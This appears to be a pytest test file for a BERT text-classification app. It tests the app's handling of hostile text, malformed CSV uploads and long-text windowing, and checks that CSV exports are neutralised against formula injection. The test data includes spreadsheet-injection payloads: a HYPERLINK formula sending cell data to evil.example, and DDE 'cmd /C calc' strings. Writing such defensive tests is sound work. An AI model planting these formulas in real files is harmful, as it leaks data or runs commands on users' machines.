"""Hostile inputs (issue 12, item 5): surrogates, invisible text, non-strings, broken
CSV uploads, and long texts read whole in windows."""
from __future__ import annotations

import io
import json

import numpy as np
import pytest
import torch

from core.config.schema import Config
from core.errors import DataError, MinbertError
from core.model.multitask import MultitaskBert
from core.data.inputs import check_text, read_csv_upload
from core.serving.predict import predict_frame, predict_one

pytestmark = pytest.mark.usefixtures("one_thread")

HOSTILE = ["\ud800", "a\udfffb", "\u200b\u200c\u200d\ufeff", "\x00\x01\x02", "\t\n \r", "\u2028\u2029",
           "\x7f\x85\x9f"]


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    from conftest import write_tiny_encoder
    directory = write_tiny_encoder(tmp_path_factory.mktemp("tiny_bert"))
    torch.manual_seed(1)
    cfg = Config.from_dict({"model": {"encoder": str(directory), "max_len": 32,
                                      "qqp": {"mode": "cross"}, "sts": {"mode": "bi"}}})
    return MultitaskBert.from_config(cfg).eval()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_a_minbert_error_everywhere(tiny, text):
    with pytest.raises(MinbertError):
        tiny.predict_sentiment([text])
    with pytest.raises(MinbertError):
        tiny.predict_paraphrase(["fine"], [text])
    with pytest.raises(MinbertError):
        tiny.embed([text])
    with pytest.raises(MinbertError):
        check_text(text)
    with pytest.raises(MinbertError):
        predict_one(tiny, "sentiment", text)


@pytest.mark.parametrize("value", [3, 2.5, b"bytes", ["a"], {"a": 1}, object()])
def test_non_strings_are_refused_not_repr_ed(tiny, value):
    with pytest.raises(MinbertError, match="must be"):
        predict_one(tiny, "sentiment", value)
    with pytest.raises(MinbertError, match="must be"):
        tiny.predict_sentiment([value])


def test_long_text_is_read_whole_and_the_last_sentence_counts(tiny):
    """~200 words; only the last sentence differs. Windows of max_len=32 tokens: the
    prediction changes with the ending. Truncated to the first 32 tokens it could not
    (identical probabilities, the issue's measured failure)."""
    body = ("The film opens in a small town where a family runs a bakery and the story "
            "follows them through one long year of weather, customers and small events. ") * 7
    assert 180 <= len(body.split()) <= 230
    good = body + "It is a wonderful, moving masterpiece."
    bad = body + "It is a dreadful waste of time."
    reading = tiny.read("sst", [good, bad])
    p_good, p_bad = reading.values
    sst_tokens = reading.read_tokens[0]
    assert reading.windows[0] > 1 and reading.read_tokens[0] > 200 and reading.max_len == 32
    # the answer is returned, never kept on the model that the app shares between sessions
    assert not hasattr(tiny, "last_read_tokens") and not hasattr(tiny, "last_windows")
    assert np.abs(p_good - p_bad).max() > 1e-4
    t_good, t_bad = tiny.predict_task("sst", [good, bad], long_text="truncate")
    assert np.array_equal(t_good, t_bad)
    # a text that fits one window is predicted exactly as before (no windows)
    short = ["A short review."]
    assert np.array_equal(tiny.predict_sentiment(short), tiny.predict_task("sst", short, long_text="truncate"))
    # pairs (cross-encoder qqp, bi-encoder sts): read whole, in range
    reading = tiny.read("qqp", [good], [bad])
    assert reading.windows[0] > 1 and 0 <= reading.values[0] <= 1
    assert 0 <= tiny.predict_similarity([good], [bad])[0] <= 5
    r = predict_one(tiny, "sentiment", good)
    assert r["tokens"] == sst_tokens == len(tiny.tokenizer(good, add_special_tokens=False)["input_ids"])
    assert r["windows"] > 1 and r["max_len"] == 32


def test_pair_of_identical_long_texts_scores_like_identical(tiny):
    text = "Sentence number one is here. " * 40
    same = tiny.predict_similarity([text], [text])[0]
    other = tiny.predict_similarity([text], ["Completely unrelated words about cooking pasta. " * 20])[0]
    assert same >= other


def test_text_over_the_token_limit_is_refused(tiny):
    with pytest.raises(MinbertError, match="tokens long; the limit is 2,048"):
        tiny.predict_sentiment(["word " * 2100])


# -------------------------------------------------------------------------- CSV
def test_csv_invalid_utf8_byte_is_replaced_with_a_warning():
    # a UTF-8 file (na\xefve is valid UTF-8) with one byte of Latin-1 in it (caf\xe9)
    raw = "sentence\nna\xefve film\ncaf\xe9 scene\ngood\n".encode("utf-8").replace(b"\xc3\xa9", b"\xe9")
    df = read_csv_upload(raw)
    assert list(df["sentence"]) == ["na\xefve film", "caf\ufffd scene", "good"]   # no mojibake of na\xefve
    assert df.attrs["warnings"] and "1 byte(s)" in df.attrs["warnings"][0] and "line 3" in df.attrs["warnings"][0]
    assert read_csv_upload(b"sentence\nok\n").attrs["warnings"] == []


def test_csv_latin1_file_is_read_as_latin1_with_a_warning():
    raw = "sentence\ncaf\xe9 cr\xe8me br\xfbl\xe9e\n".encode("latin-1")
    df = read_csv_upload(raw)
    assert df["sentence"][0] == "caf\xe9 cr\xe8me br\xfbl\xe9e"
    assert "Latin-1" in df.attrs["warnings"][0]


class CountingReader(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.asked = []

    def read(self, n=-1):
        self.asked.append(n)
        return super().read(n)


def test_csv_limits_are_enforced_while_reading():
    # rows: parsing stops at max_rows + 1; the file's later garbage is never parsed
    raw = b"sentence\n" + b"a\n" * 11 + b'"unterminated\n' * 1000
    with pytest.raises(DataError, match="more than 10 rows"):
        read_csv_upload(raw, max_rows=10)
    # size: a file object is read up to the limit + 1 byte only
    f = CountingReader(b"sentence\n" + b"x" * (3 * 2**20))
    with pytest.raises(DataError, match="more than 1 MB"):
        read_csv_upload(f, max_mb=1)
    assert f.asked == [2**20 + 1]
    with pytest.raises(DataError, match=r"data row 1 \(line 2\) has 3 fields where the header has 1"):
        read_csv_upload(b"sentence\na,b,c\n")


def test_predict_frame_notes_unreadable_rows_and_reports_tokens(tiny):
    import pandas as pd
    df = pd.DataFrame({"sentence": ["good", "\u200b\u200b", "", "long " * 100]})
    out = predict_frame({"m": tiny}, "sst", df, "sentence")
    assert list(out["note"]) == ["", "sentence has no readable characters", "empty sentence", ""]
    tokens = out.attrs["tokens_read"]
    assert tokens == [1, None, None, 100]
    json.dumps(out.attrs)   # Streamlit serializes attrs as JSON
    assert out["m: sentiment"].notna().tolist() == [True, False, False, True]


def test_pair_that_fits_the_joint_input_is_not_windowed(tiny):
    """max_len 32, cross-encoder: 20 + 5 tokens fit one joint input (29 tokens of text),
    though 20 is more than half of it: read as one input, exactly as with truncation."""
    a, b = " ".join(["word"] * 20), "five words in this one"
    reading = tiny.read("qqp", [a], [b])
    assert reading.windows == [1] and reading.read_tokens == [25]
    assert np.array_equal(reading.values, tiny.predict_task("qqp", [a], [b], long_text="truncate"))


# ------------------------------------------------------- issue 24: CSV edge cases
def test_csv_header_naming_a_column_twice_is_refused():
    with pytest.raises(DataError, match=r"names the column 'text' twice \(columns 1 and 3\)"):
        read_csv_upload(b"text,id,text\na,1,b\n")
    with pytest.raises(DataError, match=r"names the column 'text' twice \(columns 1 and 2\)"):
        read_csv_upload(b"Text,text\na,b\n")          # guess_columns matches names case-insensitively


def test_csv_unclosed_quote_is_reported_with_its_line():
    raw = b'sentence,id\ngood film,1\n"bad film,2\nfine,3\nok,4\n'
    with pytest.raises(DataError, match=r"line 3: a quote .* never closed, so every later line \(2 of them\)"):
        read_csv_upload(raw)


def test_csv_unclosed_quote_in_a_long_file_names_its_line():
    raw = b'sentence,id\nok,1\n"open quote,2\n' + b"a longer line of the review text,3\n" * 5000
    with pytest.raises(DataError, match=r"line 3.* characters.*never closed"):
        read_csv_upload(raw, max_rows=10)


def test_csv_rows_merged_by_a_stray_quote_are_named_in_a_warning():
    raw = b'sentence,id\n"bad film,2\nfine,3\nok" she said,4\nlast,5\n'
    df = read_csv_upload(raw)
    assert len(df) == 2 and list(df["id"]) == ["4", "5"]
    assert any("lines 2-4" in w and "missing its closing partner" in w for w in df.attrs["warnings"])
    # a quoted cell with a line break on purpose reads the same, with the same note
    df = read_csv_upload(b'sentence,id\n"two\nlines",1\nx,2\n')
    assert list(df["sentence"]) == ["two\nlines", "x"] and "lines 2-3" in df.attrs["warnings"][0]


@pytest.mark.parametrize("encoding, message", [("utf-16", "UTF-16 text, not UTF-8"),
                                               ("utf-16-le", "looks like UTF-16"), ("utf-16-be", "looks like UTF-16"),
                                               ("utf-32", "UTF-32 text, not UTF-8")])
def test_csv_utf16_and_utf32_files_are_asked_for_as_utf8(encoding, message):
    raw = "sentence\nA fine film.\nA dull one.\n".encode(encoding)
    with pytest.raises(DataError, match=message + ".*save it as UTF-8"):
        read_csv_upload(raw)
    assert list(read_csv_upload("sentence\nA fine film.\n".encode("utf-8-sig"))["sentence"]) == ["A fine film."]


def test_csv_column_cap_refuses_a_wide_file_at_once():
    import time
    raw = (",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join("x" * 100_000) + "\n").encode()
    start = time.perf_counter()
    with pytest.raises(DataError, match="100,000 columns; the limit is 64"):
        read_csv_upload(raw)
    assert time.perf_counter() - start < 5          # was 64 s of CPU (issue 24)


def test_csv_cell_and_header_caps_name_the_place():
    from core.data.inputs import MAX_CELL_CHARS
    raw = b"sentence,id\nok,1\n" + b"x" * (MAX_CELL_CHARS + 1) + b",2\n"
    with pytest.raises(DataError, match=r"line 3, column 1: a cell of 32,001 characters; the limit is 32,000"):
        read_csv_upload(raw)
    with pytest.raises(DataError, match="a column name of 201 characters"):
        read_csv_upload(b"h" * 201 + b"\nx\n")


# ------------------------------------------------------- issue 24: export neutralised
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\x00=1"]


def test_export_neutralises_every_formula_start_owasp_lists():
    import csv as csv_module

    import pandas as pd
    from core.data.inputs import FORMULA_STARTS, csv_export_bytes, neutralize_cell
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)           # OWASP CSV Injection's list
    df = pd.DataFrame({"=cmd|' /C calc'!A0": FORMULAS, "score": [-0.5] * len(FORMULAS),
                       "plain": ["a film", "", "x=1", "e-mail", "1 + 1", "'quoted", "ok", "café"]})
    rows = list(csv_module.reader(io.StringIO(csv_export_bytes(df).decode("utf-8"), newline="")))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "score", "plain"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert {r[1] for r in rows[1:]} == {"-0.5"}                 # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["a film", "", "x=1", "e-mail", "1 + 1", "'quoted", "ok", "café"]
    assert neutralize_cell(3) == 3 and neutralize_cell(None) is None


def test_the_issues_batch_comes_back_neutralised(tiny):
    import csv as csv_module

    import pandas as pd
    from core.data.inputs import csv_export_bytes
    raw = ("sentence,id\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",{i}\n'
                                     for i, f in enumerate(FORMULAS[:4]))).encode()
    df = read_csv_upload(raw)
    out = predict_frame({"m": tiny}, "sst", df, "sentence")
    rows = list(csv_module.reader(io.StringIO(csv_export_bytes(out).decode(), newline="")))
    starts = {cell[:1] for row in rows[1:] for cell in row[:1]}
    assert starts == {"'"} and all(row[1] in {"very negative", "negative", "neutral", "positive", "very positive"}
                                   for row in rows[1:])
    assert isinstance(pd.read_csv(io.BytesIO(csv_export_bytes(out)))["m: confidence"][0], float)


# ------------------------------------------------------- issue 24: long texts, bounded
def test_a_3000_character_review_gets_a_prediction(tiny):
    from core.data.inputs import MAX_TEXT_CHARS
    review = ("The acting is uneven but the story, told over many scenes in a small town, holds "
              "together well enough. ") * 30
    review = review[:3000]
    assert len(review) == 3000 <= MAX_TEXT_CHARS
    r = predict_one(tiny, "sentiment", review)
    assert abs(sum(r["probs"]) - 1) < 1e-5 and r["windows"] > 1
    assert r["tokens"] == len(tiny.tokenizer(review, add_special_tokens=False)["input_ids"])


def test_window_estimate_is_the_models_own_count(tiny):
    from core.serving.predict import estimate_windows
    short, mid, long = "A short one.", "word " * 40, "Another sentence of the review. " * 30
    for task, a, b in [("sst", [short, mid, long], None), ("qqp", [short, mid, long], [long, short, mid]),
                       ("sts", [mid, long], [mid, long])]:
        assert estimate_windows(tiny, task, a, b) == tiny.read(task, a, b).windows, task


def test_a_pair_over_the_window_limit_is_refused_before_predicting(tiny, monkeypatch):
    import core.serving.predict
    text = "A sentence of a long review, with clauses. " * 40          # ~400 tokens: ~14 windows each
    monkeypatch.setattr(core.serving.predict, "MAX_WINDOWS", 50)
    monkeypatch.setattr(type(tiny), "predict_task", lambda *a, **k: pytest.fail("predicted anyway"))
    with pytest.raises(MinbertError, match=r"would be read in [0-9,]+ windows of 32 tokens \(every window of one "
                                           r"sentence with every window of the other\); the limit is 50"):
        predict_one(tiny, "similarity", text, text)


def test_batch_rows_over_the_token_limit_get_a_note_and_the_upload_has_a_window_budget(tiny, monkeypatch):
    import pandas as pd

    import core.serving.predict
    df = pd.DataFrame({"sentence": ["good", "a " * 2100, "fine"]})   # 4,200 characters, 2,100 tokens
    out = predict_frame({"m": tiny}, "sst", df, "sentence")
    assert list(out["note"]) == ["", "longer than 2,048 tokens", ""]
    assert out["m: sentiment"].notna().tolist() == [True, False, True]
    monkeypatch.setattr(core.serving.predict, "MAX_BATCH_WINDOWS", 10)
    with pytest.raises(DataError, match="read in [0-9,]+ windows .* the limit per upload is 10"):
        predict_frame({"m": tiny}, "sst", pd.DataFrame({"sentence": ["word " * 200] * 3}), "sentence")
